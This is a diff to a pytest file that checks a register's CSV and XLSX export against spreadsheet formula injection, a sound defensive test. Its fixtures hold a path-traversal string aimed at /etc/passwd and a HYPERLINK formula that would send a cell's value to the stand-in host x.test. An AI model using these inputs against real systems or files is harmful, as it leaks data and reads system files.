@@ -29,6 +29,7 @@ Patch = pytest.MonkeyPatch
 CLIMBING = "../../../etc/passwd"
 FORMULA = '=HYPERLINK("http://x.test/"&A1)'
 STARTS = ("=", "+", "-", "@", "\t", "\r", "|", "\uff1d")
+PAIRS = list(zip(STARTS[::2], STARTS[1::2], strict=True))
 
 
 def any_file(patch: Patch) -> None:
@@ -106,9 +107,8 @@ def cells_as_typed(patch: Patch) -> None:
 @pytest.fixture
 def formulas(cast: Cast, client: Client) -> None:
     """A register full of formulas, and somebody who may take it."""
-    for start in STARTS:
-        answers = {"name": start + FORMULA, "work_unit": f" {start}1+1"}
-        submitted(cast, answers=answers)
+    for start, other in PAIRS:
+        submitted(cast, answers={"name": start + FORMULA, "work_unit": f" {other}1+1"})
     sign_in(client, cast["kepala_lpse"])
 
 
@@ -121,7 +121,7 @@ def formulas(cast: Cast, client: Client) -> None:
 def test_no_cell_starts_a_formula(client: Client, formulas: None) -> None:
     table = client.get(reverse("months:register", args=["contoh-timur", MONTH, "csv"])).content
     rows = list(csv.reader(io.StringIO(table.decode("utf-8-sig"))))
-    assert len(rows) == len(STARTS) + 1
+    assert len(rows) == len(PAIRS) + 1
     assert "HYPERLINK" in str(rows)
     assert [cell for row in rows for cell in row if cell.lstrip(" \u00a0").startswith(STARTS)] == []
     book = client.get(reverse("months:register", args=["contoh-timur", MONTH, "xlsx"])).content
